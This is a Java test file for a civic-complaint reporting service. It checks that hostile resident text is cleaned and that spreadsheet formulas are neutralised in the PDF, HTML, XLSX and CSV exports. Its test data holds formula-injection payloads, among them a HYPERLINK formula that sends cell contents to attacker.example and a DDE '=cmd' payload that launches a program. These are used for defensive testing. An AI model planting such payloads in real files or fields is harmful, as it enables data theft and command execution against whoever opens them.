package ru.civicpulse.reporting.report;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.Test;
import ru.civicpulse.reporting.analytics.AlertsResult;
import ru.civicpulse.reporting.analytics.Decision;
import ru.civicpulse.reporting.analytics.IncidentsResult;

import javax.xml.parsers.DocumentBuilderFactory;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Residents write anything: control characters, non-characters, broken surrogates, formulas, whole
 * novels. Reports with such quotes are rendered in every format and read back the way their users
 * read them (PDFBox, POI, an XML parser, a CSV reader splitting on either separator). Runs in the
 * application, where the HTML's checked template is built.
 */
@QuarkusTest
class HostileTextReportTest {
    static final String BROKEN = "Вода\u0000 течёт\u0007 по\uFFFE стене\uFFFF \uD800подъезда\uDC00 🙂 уже\u001B неделю";
    static final String BROKEN_CLEAN = "Вода течёт по стене подъезда 🙂 уже неделю";
    static final String NOVEL = "Длинная жалоба. ".repeat(2_600);
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Подробнее\")",
            "+7(473)000-00-00 звонили, без толку",
            "-1+1 и ещё раз",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "Двор, =cmd|' /C calc'!A0",
            "Двор,=cmd|' /C calc'!A0",
            "Подъезд\n@SUM(1)",
            "Сосед; +1 хотя бы");

    private static ReportContent hostile() {
        ReportContent c = ReportSamples.voronezhWeek();
        IncidentsResult.Incident model = c.incidents().incidents().get(0);
        List<String> firstQuotes = new ArrayList<>(List.of(BROKEN, NOVEL));
        firstQuotes.addAll(FORMULAS);
        List<IncidentsResult.Incident> incidents = new ArrayList<>();
        for (int i = 0; i < firstQuotes.size(); i++) {
            incidents.add(new IncidentsResult.Incident(model.incidentKey() + "-" + i, model.municipality(), model.district(),
                    model.districtLabel(), model.group(), model.label(), model.topic(), model.firstSeen(), model.lastSeen(),
                    model.messages(), model.uniqueAuthors(), model.growth(), model.negativeShare(), model.emergency(),
                    model.elevated(), model.concernScore() - i, List.of(
                    new IncidentsResult.Quote(UUID.randomUUID(), firstQuotes.get(i), "VK", null, model.firstSeen()),
                    new IncidentsResult.Quote(UUID.randomUUID(), BROKEN, "VK", null, model.firstSeen())), model.state()));
        }
        AlertsResult.Emergency e = c.alerts().emergencies().get(0);
        AlertsResult alerts = new AlertsResult(c.alerts().spikes(), List.of(new AlertsResult.Emergency(e.messageId(),
                e.municipality(), e.district(), e.districtLabel(), e.group(), e.label(), BROKEN, e.url(), e.publishedAt(),
                e.hoursWaiting())));
        Decision d = c.decisions().get(0);
        List<Decision> decisions = new ArrayList<>();
        for (String comment : firstQuotes) {
            decisions.add(new Decision(d.incidentKey(), d.group(), d.label(), d.district(), d.districtLabel(), d.executor(),
                    d.changedBy(), d.changedAt(), comment));
        }
        return new ReportContent(c.municipality(), c.municipalityLabel(), c.firstDay(), c.lastDay(), c.generatedAt(), c.topics(),
                c.daily(), c.heat(), new IncidentsResult(incidents), alerts, c.responses(), c.comparison(), c.methodology(),
                c.executors(), decisions);
    }

    @Test
    void everyFormatRendersAndReadsBackWithoutTheForbiddenCharacters() throws Exception {
        long started = System.nanoTime();
        Map<ReportDocument, byte[]> docs = ReportService.render(hostile());
        System.out.printf("hostile report rendered in %d ms: pdf %d B, html %d B, xlsx %d B, csv %d B%n",
                (System.nanoTime() - started) / 1_000_000, docs.get(ReportDocument.PDF).length, docs.get(ReportDocument.HTML).length,
                docs.get(ReportDocument.XLSX).length, docs.get(ReportDocument.CSV).length);

        // HTML: well-formed XML, the quote's words kept, the forbidden characters gone
        String html = new String(docs.get(ReportDocument.HTML), StandardCharsets.UTF_8);
        String htmlText = DocumentBuilderFactory.newInstance().newDocumentBuilder()
                .parse(new ByteArrayInputStream(docs.get(ReportDocument.HTML))).getDocumentElement().getTextContent();
        assertThat(htmlText).contains("«" + BROKEN_CLEAN + "»");
        assertThat(html).doesNotContain("\u0000", "\u0007", "\uFFFE", "\uFFFF", "\u001B");

        // PDF: typeset, and the quote reads as the resident wrote it, less the control characters
        try (PDDocument pdf = Loader.loadPDF(docs.get(ReportDocument.PDF))) {
            String text = new PDFTextStripper().getText(pdf).replaceAll("\\s+", " ");
            assertThat(text).contains("Вода течёт по стене подъезда").contains("Главные инциденты");
        }

        // XLSX: the novel is cut to the cell limit, the broken quote cleaned
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(docs.get(ReportDocument.XLSX)))) {
            Sheet sheet = wb.getSheet("Инциденты");
            String broken = sheet.getRow(1).getCell(7).getStringCellValue();
            assertThat(broken).startsWith("«" + BROKEN_CLEAN + "»");
            String novel = sheet.getRow(2).getCell(7).getStringCellValue();
            assertThat(novel).hasSize(ReportText.XLSX_MAX).startsWith("«Длинная жалоба. Длинная жалоба.").endsWith("…");
            for (Row row : sheet) {
                assertThat(row.getCell(7).getStringCellValue()).doesNotContain("\u0000", "\uFFFE", "\uFFFF");
            }
        }
    }

    @Test
    void noCsvCellStartsAFormulaWhicheverSeparatorTheSpreadsheetUses() {
        String csv = new String(ReportCsvRenderer.render(hostile()), StandardCharsets.UTF_8);
        for (char separator : new char[]{';', ',', '\t'}) {
            List<List<String>> rows = ReportCsv.parse(csv.substring(1), separator);
            int cells = 0;
            for (List<String> row : rows) {
                for (String cell : row) {
                    cells++;
                    if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                        assertThat(ReportText.isPlainNumber(cell)).as("cell %s read with separator '%s'", cell, separator).isTrue();
                    }
                }
            }
            assertThat(rows).hasSizeGreaterThan(50);
            assertThat(cells).isGreaterThanOrEqualTo(rows.size());
        }
        List<String> quotes = ReportCsv.parse(csv.substring(1), ';').stream().filter(r -> r.size() == 7 && r.get(0).startsWith("ЖКХ"))
                .map(r -> r.get(6)).toList();
        assertThat(quotes).contains("'" + FORMULAS.get(0), "'" + FORMULAS.get(1), "'" + FORMULAS.get(3), "'\t'=1+1", "'\r'=1+1",
                FORMULAS.get(6), "Двор,'=cmd|' /C calc'!A0", "Подъезд\n'@SUM(1)", BROKEN_CLEAN);
        // the decisions' comments are neutralised the same way
        List<String> comments = ReportCsv.parse(csv.substring(1), ';').stream().filter(r -> r.size() == 5 && r.get(0).startsWith("ЖКХ"))
                .map(r -> r.get(4)).toList();
        assertThat(comments).contains("'" + FORMULAS.get(0), "Двор,'=cmd|' /C calc'!A0", BROKEN_CLEAN);
    }

    @Test
    void cleaningKeepsEverythingXmlAllows() {
        assertThat(ReportText.clean("a\tb\nc\rd 🙂 ё")).isEqualTo("a\tb\nc\rd 🙂 ё");
        assertThat(ReportText.clean("\uDC00x\uD800")).isEqualTo("x");
        assertThat(ReportText.forCsv("-12,5")).isEqualTo("-12,5");
        assertThat(ReportText.forCsv("-")).isEqualTo("'-");
        assertThat(ReportText.forCsv("-5 градусов")).isEqualTo("'-5 градусов");
        assertThat(ReportText.forCsv("Сосед; +1 хотя бы")).isEqualTo("Сосед; +1 хотя бы");
        assertThat(ReportText.forXlsx("🙂".repeat(20_000))).hasSizeLessThanOrEqualTo(ReportText.XLSX_MAX).endsWith("…")
                .doesNotContain("\uD83D…");
    }
}
